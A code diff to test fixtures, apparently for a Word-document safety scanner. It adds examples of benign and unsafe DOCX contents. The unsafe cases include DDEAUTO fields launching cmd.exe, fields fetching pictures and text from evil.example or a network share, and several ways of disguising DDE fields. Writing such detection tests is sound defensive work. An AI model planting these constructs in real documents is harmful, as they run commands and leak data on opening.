@@ -19,6 +19,17 @@ const relationship = (type: string, target: string, mode = 'TargetMode="External
 const RELS = 'word/_rels/document.xml.rels'
 const withRels = (rels: string | Buffer) => docxOf({ [RELS]: rels })
 
+/** A run of a field: where it begins, what it is to do, where what it shows begins, and where it ends. */
+const run = (content: string) => `<w:r>${content}</w:r>`
+const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
+const does = (...pieces: string[]) =>
+  pieces.map((one) => run(`<w:instrText xml:space="preserve">${one}</w:instrText>`)).join('')
+const shown = (text: string) => mark('separate') + run(`<w:t>${text}</w:t>`) + mark('end')
+const field = (instruction: string, text = '1') => mark('begin') + instruction + shown(text)
+const simple = (instruction: string) => `<w:fldSimple w:instr='${instruction}'><w:r><w:t>1</w:t></w:r></w:fldSimple>`
+const withText = (text: string, name = 'document') =>
+  docxOf({ [`word/${name}.xml`]: `<w:document>${text}</w:document>` })
+
 /** Documents as Word makes them. */
 export const SOUND_DOCX: readonly (readonly [string, Buffer])[] = [
   ['nothing but its text', docxOf()],
@@ -27,6 +38,25 @@ export const SOUND_DOCX: readonly (readonly [string, Buffer])[] = [
   ['a link without a scheme', withRels(relationship('hyperlink', 'linkedin.com/in/x'))],
   ['pictures of its own', withRels(relationship('image', 'media/image1.png', ''))],
   ['a picture that unpacks to much', docxOf({ 'word/media/image1.png': Buffer.alloc(20 * 1024 * 1024) })],
+  [
+    'page numbers, dates and references',
+    withText(field(does(' PAGE ')) + field(does('DATE \\@ "d"')) + simple('NUMPAGES')),
+  ],
+  [
+    'a table of contents',
+    withText(field(does('TOC \\o "1-3"'), `</w:t>${field(does(' HYPERLINK \\l "a" '), 'LINK')}<w:t>`)),
+  ],
+  [
+    'fields among what a field is to do',
+    withText(field(does(' IF ') + field(does('PAGE')) + does('= 1 "DDE" "LINK" '))),
+  ],
+  ['a page number that is counted', withText(field(does('=') + field(does('PAGE')) + does('-1')))],
+  [
+    'texts that read like fields',
+    withText(run('<w:t>DDEAUTO cmd &lt;w:fldChar/> INCLUDEPICTURE "http://x.example"</w:t>')),
+  ],
+  ['what other programs keep with it', docxOf({ 'customXml/item1.xml': Buffer.from('\uFEFF<a>DDE</a>', 'utf16le') })],
+  ['a section in that', docxOf({ 'customXml/item2.xml': '<a><![CDATA[b]]></a>' })],
   ['the table of a chart', docxOf({ 'word/embeddings/Sheet1.xlsx': docxOf() })],
 ]
 
@@ -109,6 +139,37 @@ export const UNSAFE_DOCX: readonly (readonly [string, string, Buffer])[] = [
   ['a template from a share', 'links', withRels(relationship('attachedTemplate', 'file://evil.example/a.dotm'))],
   ['a picture from elsewhere', 'links', withRels(relationship('image', 'http://evil.example/a.png'))],
   ['an object from elsewhere', 'links', withRels(relationship('oleObject', 'file:///C:/x.xls'))],
+  [
+    'a picture that a field fetches',
+    'links',
+    withText(field(does(' INCLUDEPICTURE "http://evil.example/a.png" \\d '))),
+  ],
+  ['a text that a footer fetches', 'links', withText(simple('INCLUDETEXT "\\\\\\\\evil.example\\\\x"'), 'footer1')],
+  ['a field for another program', 'links', withText(field(does('DDE', 'AUTO c:\\\\windows\\\\cmd.exe')))],
+  ['the same without a result', 'links', withText(mark('begin') + does('&#68;deauto cmd'))],
+  ['the same as a text', 'links', withText(field(run('<w:t>DDEAUTO</w:t>') + does(' cmd')))],
+  ['the same in quotes', 'links', withText(field(does(' "DDEAUTO" cmd')))],
+  ['the same behind another field', 'links', withText(field(does(' IF ') + field(does('DDE cmd')) + does(' = 1')))],
+  ['a field that another one names', 'links', withText(field(field(does('QUOTE 68 68 69')) + does(' cmd')))],
+  ['a field that another one ends', 'links', withText(field(does('DD') + field(does('QUOTE 69')) + does(' cmd')))],
+  ['a field under another prefix', 'links', withText(field(does('DDE cmd')).replaceAll('w:', 'x.y:'))],
+  ['entities in its text', 'links', docxOf({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><document/>' })],
+  [
+    'text among what other programs keep',
+    'links',
+    docxOf({ 'customXml/item1.xml': Buffer.from('\uFEFF<a xmlns="x/wordprocessing&#109;l/main"/>', 'utf16le') }),
+  ],
+  ['a field in a section', 'links', withText('<w:instrText><![CDATA[DDE]]></w:instrText>')],
+  [
+    'a document under another name',
+    'links',
+    docxOf({
+      '[Content_Types].xml':
+        '<Types><Override PartName="/word/x.bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+    }),
+  ],
+  ['a page of the web inside', 'programs', withRels(relationship('aFChunk', 'a.mht', ''))],
+  ['an object under another name', 'programs', withRels(relationship('oleObject', 'media/a.dat', ''))],
   ['a link to a file', 'links', withRels(relationship('hyperlink', 'file:///C:/x'))],
   ['a link to a share', 'links', withRels(relationship('hyperlink', '\\\\evil.example\\x'))],
   ['a link that is a script', 'links', withRels(relationship('hyperlink', 'java&#x09;script:alert(1)'))],
